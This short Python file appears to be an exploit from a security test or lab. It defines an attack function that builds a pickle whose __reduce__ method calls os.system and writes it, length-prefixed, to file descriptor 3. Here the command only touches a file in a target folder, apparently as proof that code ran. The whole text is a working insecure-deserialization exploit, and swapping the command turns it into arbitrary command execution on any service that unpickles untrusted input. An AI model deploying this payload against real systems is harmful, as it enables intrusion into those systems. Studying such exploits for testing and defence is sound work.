"""Sends a pickle that runs a command when it is read."""


def attack(t):
    import os, pickle, struct
    class Command:
        def __reduce__(self):
            return os.system, (f"touch {t['folder']}/new",)
    body = pickle.dumps(Command())
    os.write(3, struct.pack(">I", len(body)) + body)
    return body
